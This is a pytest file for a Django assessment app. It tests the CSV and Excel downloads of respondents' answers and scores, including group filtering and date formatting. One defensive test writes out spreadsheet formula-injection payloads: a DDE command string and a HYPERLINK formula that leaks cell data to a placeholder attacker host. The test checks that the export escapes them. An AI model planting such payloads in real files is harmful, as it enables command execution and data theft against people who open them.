"""Facilitators download answers and scores as CSV and Excel: one row per respondent."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from assessments import selectors

from .factories import CountryFactory, UserFactory
from .factories_assessments import agree, answer, build_instrument, build_run, team

FIXED = ["Group", "Country", "Respondent", "Type", "E-mail", "Institution", "Position", "Submitted (ECT)", "Late"]


@pytest.fixture
def run(programme):
    return build_run(programme, build_instrument(dimensions=(("Leadership", 2), ("Legal", 1))))


@pytest.fixture
def structure(run):
    return selectors.instrument_structure(run.instrument)


@pytest.fixture
def facilitator_client(client, programme):
    user = UserFactory()
    programme.facilitators.add(user)
    client.force_login(user)
    return client


@pytest.fixture
def answered(programme, run, structure):
    group_a = programme.cohorts.get(name="Group A")
    first, second = team(group_a, CountryFactory(name="Barbados"))
    first.user.first_name, first.user.last_name = "Ann", "Alleyne"
    first.user.save()
    answer(run, first, [4, "dk", 2], submit=True, structure=structure)
    answer(run, second, [2, 3, 3], submit=True, structure=structure)
    agree(run, group_a, first.country, [3, 3, 2], structure=structure)
    [drafter] = team(group_a, size=1)
    answer(run, drafter, [1], structure=structure)
    [group_b_member] = team(programme.cohorts.get(name="Group B"), size=1)
    answer(run, group_b_member, [5, 5, 5], submit=True, structure=structure)
    return first


def expected_header():
    return [
        *FIXED,
        "Leadership 1: Leadership statement number 1 is true.",
        "Leadership 1 confidence",
        "Leadership 1 evidence",
        "Leadership 2: Leadership statement number 2 is true.",
        "Leadership 2 confidence",
        "Leadership 2 evidence",
        "Legal 1: Legal statement number 1 is true.",
        "Legal 1 confidence",
        "Legal 1 evidence",
        "Leadership score",
        "Leadership don't know",
        "Legal score",
        "Legal don't know",
    ]


def test_the_xlsx_opens_with_openpyxl_and_has_the_expected_header(facilitator_client, programme, answered):
    response = facilitator_client.get(reverse("dtca:export_xlsx", args=[programme.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="dtca-' in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Answers", "About"]
    rows = list(workbook["Answers"].iter_rows(values_only=True))
    assert list(rows[0]) == expected_header()
    # Submitted individuals of both groups, then the agreed country assessment; the draft is left out.
    assert [(r[0], r[3]) for r in rows[1:]] == [
        ("Group A", "Individual"),
        ("Group A", "Individual"),
        ("Group B", "Individual"),
        ("Group A", "Country (agreed)"),
    ]
    ann = next(r for r in rows[1:] if r[2] == "Ann Alleyne")
    values = dict(zip(rows[0], ann, strict=True))
    assert values["Leadership 1: Leadership statement number 1 is true."] == 4
    assert values["Leadership 2: Leadership statement number 2 is true."] == "Don't know"
    assert values["Leadership score"] == 4 and values["Leadership don't know"] == 1
    assert values["Legal score"] == 2
    about = dict(workbook["About"].iter_rows(values_only=True))
    assert "not a benchmark" in about["Note"]


def test_the_csv_has_one_row_per_respondent_with_columns_in_questionnaire_order(
    facilitator_client, programme, answered
):
    response = facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == expected_header()
    assert len(rows) == 5
    agreed = next(r for r in rows if r[3] == "Country (agreed)")
    assert agreed[2] == "Barbados country team"
    assert agreed[-4:] == ["3.0", "0", "2.0", "0"]


def test_one_groups_download_holds_only_that_group(facilitator_client, programme, answered):
    group_b = programme.cohorts.get(name="Group B")
    response = facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk]) + f"?group={group_b.pk}")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert {r[0] for r in rows[1:]} == {"Group B"} and len(rows) == 2
    assert "group-b" in response["Content-Disposition"]
    response = facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk]) + "?group=999999")
    assert response.status_code == 404


def test_downloads_are_safe_against_formula_injection(facilitator_client, programme, run, structure):
    [participant] = team(programme.cohorts.get(name="Group A"), size=1)
    participant.user.first_name, participant.user.last_name = "=cmd|' /C calc'!A0", ""
    participant.user.save()
    assessment = answer(run, participant, [1, 2, 3], submit=True, structure=structure)
    note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assessment.answers.filter(statement=structure.statements[0]).update(note=note)

    text = b"".join(facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk])).streaming_content).decode(
        "utf-8-sig"
    )
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[2] == "'=cmd|' /C calc'!A0"
    assert "'" + note in row
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)

    content = facilitator_client.get(reverse("dtca:export_xlsx", args=[programme.pk])).content
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Answers"]
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert texts and all(c.data_type == "s" for c in texts)  # text, never a formula


def test_the_submission_moment_is_a_date_cell_in_the_reference_zone(facilitator_client, programme, answered):
    content = facilitator_client.get(reverse("dtca:export_xlsx", args=[programme.pk])).content
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Answers"]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    column = header.index("Submitted (ECT)")
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "Ann Alleyne")
    cell = row[column]
    assert cell.is_date and cell.number_format == "yyyy-mm-dd hh:mm"
    submitted = answered.dtca_assessments.get().submitted_at
    assert cell.value == submitted.astimezone(programme.tz).replace(tzinfo=None, microsecond=0)
    # The CSV writes the same wall time as text a spreadsheet reads as a date.
    text = b"".join(facilitator_client.get(reverse("dtca:export_csv", args=[programme.pk])).streaming_content)
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    ann = next(r for r in rows if r[2] == "Ann Alleyne")
    assert ann[column] == cell.value.strftime("%Y-%m-%d %H:%M")
